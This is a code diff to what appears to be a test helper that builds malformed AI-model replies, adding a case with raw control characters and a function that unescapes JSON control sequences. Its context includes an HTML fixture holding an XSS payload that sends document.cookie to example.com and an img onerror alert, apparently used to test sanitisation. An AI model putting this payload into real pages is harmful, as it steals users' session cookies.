@@ -47,6 +47,9 @@ const evils: Record<EvilKind, Evil> = {
     ...(reply.why === undefined ? {} : { why: '', strategy: '' }),
     ...(reply.cues && { cues: [] }),
   }),
+  // Sent raw, as small local models write them: see `rawText`.
+  control: (reply) =>
+    withWords(reply, 'Brace\nhard,\tbreathe\u0001 and \u001bkeep the bar close.\r\n'),
   all: (reply) =>
     withNumbers(
       withWords(
@@ -60,6 +63,13 @@ const evils: Record<EvilKind, Evil> = {
 
 const HTML =
   '<script>fetch("https://example.com/?"+document.cookie)</script><img src=x onerror=alert(1)>'
+
+/** A text of JSON with its control characters raw, where JSON would have them escaped. */
+export function rawText(json: string): string {
+  return json.replace(/\\([bfnrt]|u00[01][0-9a-f])/g, (escaped) =>
+    String(JSON.parse(`"${escaped}"`)),
+  )
+}
 
 /** Puts the words into every text of the reply. */
 function withWords(reply: Reply, words: string): Reply {
